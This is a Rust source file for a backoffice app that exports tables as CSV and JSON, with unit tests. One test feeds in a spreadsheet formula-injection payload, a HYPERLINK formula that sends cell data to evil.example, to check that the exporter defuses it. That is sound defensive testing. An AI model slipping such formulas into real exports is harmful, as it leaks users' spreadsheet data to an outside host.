//! What leaves the app as a file: tables as CSV (the platform's dialect: a BOM, `;`) and JSON,
//! under names that say the view and the window. Pure, so it is tested natively; the browser's
//! side (a Blob and a click) is `browser::download`.

use engine::calendar::Zone;
use engine::stats::{ObjectStat, UserStat};
use engine::DateWindow;

use crate::components::tables::{column_label, short_time};
use crate::components::TableData;
use crate::i18n::t;
use crate::labels::type_label;

/// `backoffice-objects-2024-03-25_2024-04-07.csv`: the view, the window, the format.
pub fn file_name(view: &str, window: &DateWindow, extension: &str) -> String {
    format!(
        "backoffice-{view}-{}_{}.{extension}",
        window.from, window.to
    )
}

/// A table as CSV the way the platform writes its exports (a BOM, `;` between cells), so that
/// a spreadsheet in French or English opens it in columns.
pub fn table_csv(table: &TableData) -> String {
    let line = |cells: &[String]| {
        cells
            .iter()
            .map(|cell| engine::export::csv_cell(cell))
            .collect::<Vec<_>>()
            .join(";")
    };
    let mut text = String::from("\u{feff}");
    text.push_str(&line(&table.headers));
    text.push_str("\r\n");
    for row in &table.rows {
        text.push_str(&line(row));
        text.push_str("\r\n");
    }
    text
}

/// A table as JSON: an array of objects keyed by the column headers.
pub fn table_json(table: &TableData) -> String {
    let rows: Vec<serde_json::Map<String, serde_json::Value>> = table
        .rows
        .iter()
        .map(|row| {
            table
                .headers
                .iter()
                .zip(row)
                .map(|(header, cell)| (header.clone(), serde_json::Value::String(cell.clone())))
                .collect()
        })
        .collect();
    serde_json::to_string_pretty(&rows).unwrap_or_default()
}

/// The full object list as a table: every row of the filters, not one page; counts as plain
/// numbers (no thousands separator), times in the zone.
pub fn objects_table(objects: &[ObjectStat], zone: Zone) -> TableData {
    TableData {
        headers: ["type", "id", "actions", "users", "last"]
            .map(|column| column_label(column).to_string())
            .to_vec(),
        rows: objects
            .iter()
            .map(|o| {
                vec![
                    type_label(o.kind).to_string(),
                    o.id.clone(),
                    o.actions.to_string(),
                    o.users.to_string(),
                    short_time(zone, o.last),
                ]
            })
            .collect(),
        note: None,
    }
}

/// The full user list as a table.
pub fn users_table(users: &[UserStat], zone: Zone) -> TableData {
    TableData {
        headers: ["user", "actions", "objects", "last"]
            .map(|column| column_label(column).to_string())
            .to_vec(),
        rows: users
            .iter()
            .map(|u| {
                vec![
                    u.user.clone(),
                    u.actions.to_string(),
                    u.objects.to_string(),
                    short_time(zone, u.last),
                ]
            })
            .collect(),
        note: None,
    }
}

/// The weekday × hour counts as a table: a row per weekday, a column per hour.
pub fn week_hours_table(counts: &[[u64; 24]; 7]) -> TableData {
    let mut headers = vec![t("chart.bucket.day").to_string()];
    headers.extend((0..24).map(|hour| format!("{hour:02}")));
    TableData {
        headers,
        rows: crate::labels::weekdays()
            .iter()
            .zip(counts)
            .map(|(day, hours)| {
                let mut row = vec![day.to_string()];
                row.extend(hours.iter().map(u64::to_string));
                row
            })
            .collect(),
        note: None,
    }
}

/// The notable actions as a table, every object of a row named (type and id).
pub fn notable_table(rows: &[engine::notable::Notable], zone: Zone) -> TableData {
    TableData {
        headers: [
            t("notable.col.kind"),
            t("column.user"),
            t("column.actions"),
            t("notable.col.first"),
            t("notable.col.last"),
            t("column.objects"),
        ]
        .map(String::from)
        .to_vec(),
        rows: rows
            .iter()
            .map(|n| {
                let objects: Vec<String> = n
                    .objects
                    .iter()
                    .map(|(kind, id)| format!("{} {id}", type_label(*kind)))
                    .collect();
                vec![
                    crate::components::notable::kind_label(n.kind).to_string(),
                    n.user.clone(),
                    n.count.to_string(),
                    short_time(zone, n.first),
                    short_time(zone, n.last),
                    objects.join(", "),
                ]
            })
            .collect(),
        note: None,
    }
}

/// A history's actions as a table: time (to the second, in the zone), the user or the object,
/// the action, and the diff as the log holds it.
pub fn history_table(
    store: &engine::Store,
    rows: &[u32],
    zone: Zone,
    users_column: bool,
) -> TableData {
    use engine::TextField;
    let other = if users_column {
        t("column.user")
    } else {
        t("column.object")
    };
    TableData {
        headers: [
            t("history.time"),
            other,
            t("chart.action"),
            t("history.changed"),
        ]
        .map(String::from)
        .to_vec(),
        rows: rows
            .iter()
            .map(|&row| {
                let row = row as usize;
                let other = if users_column {
                    store.text(row, TextField::UserId).to_string()
                } else {
                    let (kind, id) = engine::objects::object_of(store, row);
                    format!("{} {}", type_label(kind), store.strings().get(id))
                };
                vec![
                    zone.format(store.timestamp(row)),
                    other,
                    store.text(row, TextField::Action).to_string(),
                    store.diff(row).to_string(),
                ]
            })
            .collect(),
        note: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> TableData {
        TableData {
            headers: vec!["User".into(), "Note".into()],
            rows: vec![
                vec!["ann".into(), "a;b".into()],
                vec!["zoë 🚀".into(), "say \"hi\"\nthen go".into()],
            ],
            note: None,
        }
    }

    #[test]
    fn names_say_the_view_and_the_window() {
        let window = DateWindow::parse("2024-03-25", "2024-04-07").unwrap();
        assert_eq!(
            file_name("objects", &window, "csv"),
            "backoffice-objects-2024-03-25_2024-04-07.csv"
        );
    }

    #[test]
    fn csv_in_the_platform_dialect() {
        assert_eq!(
            table_csv(&table()),
            "\u{feff}User;Note\r\nann;\"a;b\"\r\nzoë 🚀;\"say \"\"hi\"\"\nthen go\"\r\n"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_defused() {
        let table = TableData {
            headers: vec!["Title".into(), "User".into(), "Change".into()],
            rows: vec![vec![
                r#"=HYPERLINK("http://evil.example/?"&A2,"open")"#.into(),
                "+33 6".into(),
                "-3".into(),
            ]],
            note: None,
        };
        assert_eq!(
            table_csv(&table),
            "\u{feff}Title;User;Change\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"open\"\")\";+33 6;-3\r\n"
        );
    }

    #[test]
    fn json_keyed_by_headers() {
        let value: serde_json::Value = serde_json::from_str(&table_json(&table())).unwrap();
        assert_eq!(value[1]["User"], "zoë 🚀");
        assert_eq!(value[0]["Note"], "a;b");
        assert_eq!(value.as_array().unwrap().len(), 2);
    }
}
